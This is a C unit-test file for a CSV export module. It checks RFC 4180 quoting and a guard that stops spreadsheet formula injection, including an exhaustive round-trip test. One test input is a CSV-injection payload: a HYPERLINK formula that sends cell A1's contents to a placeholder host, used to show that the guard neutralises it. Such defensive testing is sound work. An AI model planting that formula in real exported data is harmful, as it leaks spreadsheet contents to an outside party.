/* Unit tests for base/csv: RFC 4180 quoting of text cells, the formula guard on
 * every character OWASP lists (=, +, -, @, TAB, CR; also after leading single
 * quotes), and, over every string of up to five characters from an alphabet of
 * the characters that matter, that a cell read back with RFC 4180 and
 * tb_csv_text_value is the string written and never starts like a formula. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <math.h>
#include <string.h>

#include "base/csv.h"
#include "base/internal.h"

/* tb_csv_text(s) as a C string (static buffer, for one assertion at a time). */
static const char *cell(const char *s)
{
    static char out[512];
    tb_buf b = {0};
    assert_int_equal(tb_csv_text(&b, s), 0);
    assert_true(b.len < sizeof out);
    memcpy(out, b.p ? (const char *)b.p : "", b.len);
    out[b.len] = '\0';
    tb_buf_clear(&b);
    return out;
}

static void test_plain_and_quoted(void **state)
{
    (void)state;
    assert_string_equal(cell("tdx-guest"), "tdx-guest");
    assert_string_equal(cell(""), "");
    assert_string_equal(cell(NULL), "");
    assert_string_equal(cell("a,b"), "\"a,b\"");
    assert_string_equal(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
    assert_string_equal(cell("two\nlines"), "\"two\nlines\"");
    assert_string_equal(cell("cr\r"), "\"cr\r\"");
    /* a formula character inside the cell is harmless */
    assert_string_equal(cell("a=b"), "a=b");
    assert_string_equal(cell("http.nginx.latency-p99"), "http.nginx.latency-p99");
    /* quotes alone are text */
    assert_string_equal(cell("'"), "'");
    assert_string_equal(cell("'quoted'"), "'quoted'");
}

static void test_formula_guard(void **state)
{
    (void)state;
    assert_string_equal(cell("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
                        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
    assert_string_equal(cell("=1+2"), "\"'=1+2\"");
    assert_string_equal(cell("+1"), "\"'+1\"");
    assert_string_equal(cell("-2+3"), "\"'-2+3\"");
    assert_string_equal(cell("@SUM(A1)"), "\"'@SUM(A1)\"");
    assert_string_equal(cell("\t=1"), "\"'\t=1\"");
    assert_string_equal(cell("\r=1"), "\"'\r=1\"");
    /* a text cell that looks like a negative number is text too (callers write
       numbers as numbers, never through tb_csv_text) */
    assert_string_equal(cell("-3.5"), "\"'-3.5\"");
    /* single quotes before a formula: one more, so the guard can be taken off */
    assert_string_equal(cell("'=1"), "\"''=1\"");
    assert_string_equal(cell("''-x"), "\"'''-x\"");
    assert_true(tb_csv_formula_like("=x"));
    assert_true(tb_csv_formula_like("''@x"));
    assert_false(tb_csv_formula_like("x="));
    assert_false(tb_csv_formula_like("''"));
    assert_false(tb_csv_formula_like(""));
    assert_false(tb_csv_formula_like(NULL));
    /* the reader's side */
    assert_string_equal(tb_csv_text_value("'=1"), "=1");
    assert_string_equal(tb_csv_text_value("''=1"), "'=1");
    assert_string_equal(tb_csv_text_value("'quoted'"), "'quoted'");
    assert_string_equal(tb_csv_text_value("'"), "'");
    assert_string_equal(tb_csv_text_value("plain"), "plain");
}

/* One RFC 4180 field: the cell (quoted or not) as its value. */
static void unquote(const char *c, char *out)
{
    size_t o = 0;
    if (c[0] != '"') {
        assert_null(strpbrk(c, ",\"\r\n"));
        strcpy(out, c);
        return;
    }
    size_t n = strlen(c);
    assert_true(n >= 2 && c[n - 1] == '"');
    for (size_t i = 1; i + 1 < n; i++) {
        if (c[i] == '"') {
            assert_int_equal(c[i + 1], '"'); /* a lone quote would end the field */
            i++;
        }
        out[o++] = c[i];
    }
    out[o] = '\0';
}

static void test_round_trip_exhaustive(void **state)
{
    (void)state;
    static const char alpha[] = "'=+-@\t\r\n,\"a";
    size_t k = strlen(alpha);
    char s[8], value[64];
    size_t total = 0;
    for (size_t len = 0; len <= 5; len++) {
        size_t count = 1;
        for (size_t i = 0; i < len; i++)
            count *= k;
        for (size_t code = 0; code < count; code++) {
            size_t c = code;
            for (size_t i = 0; i < len; i++, c /= k)
                s[i] = alpha[c % k];
            s[len] = '\0';
            unquote(cell(s), value);
            if (value[0] && strchr("=+-@\t\r", value[0]))
                fail_msg("a spreadsheet would run the cell of \"%s\"", s);
            assert_string_equal(tb_csv_text_value(value), s);
            total++;
        }
    }
    assert_int_equal(total, 177156); /* 1 + 11 + ... + 11^5 */
}

/* The row writer: separators between cells only, text cells guarded and quoted,
   raw cells as they are, NaN as an empty cell, one '\n' at the end. */
static void test_row(void **state)
{
    (void)state;
    tb_buf b = {0};
    tb_csv_row r;
    tb_csv_row_begin(&r, &b);
    tb_csv_put_text(&r, "=SUM(A1)");
    tb_csv_put_raw(&r, "42");
    tb_csv_put_printf(&r, "%d", -3);
    tb_csv_put_num(&r, 0.125);
    tb_csv_put_num(&r, NAN);
    tb_csv_put_raw(&r, NULL);
    tb_csv_put_text(&r, "a,b");
    assert_int_equal(tb_csv_row_end(&r), 0);
    tb_csv_row_begin(&r, &b);
    tb_csv_put_text(&r, "only");
    assert_int_equal(tb_csv_row_end(&r), 0);
    assert_int_equal(b.len, strlen("\"'=SUM(A1)\",42,-3,0.125,,,\"a,b\"\nonly\n"));
    assert_memory_equal(b.p, "\"'=SUM(A1)\",42,-3,0.125,,,\"a,b\"\nonly\n", b.len);
    tb_buf_clear(&b);
}

/* A raw cell too long for the printf buffer fails the row instead of cutting it. */
static void test_row_printf_too_long(void **state)
{
    (void)state;
    tb_buf b = {0};
    tb_csv_row r;
    tb_csv_row_begin(&r, &b);
    tb_csv_put_printf(&r, "%0200d", 1);
    tb_csv_put_raw(&r, "x");
    assert_int_equal(tb_csv_row_end(&r), -1);
    tb_buf_clear(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_and_quoted),      cmocka_unit_test(test_formula_guard),
        cmocka_unit_test(test_round_trip_exhaustive), cmocka_unit_test(test_row),
        cmocka_unit_test(test_row_printf_too_long),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
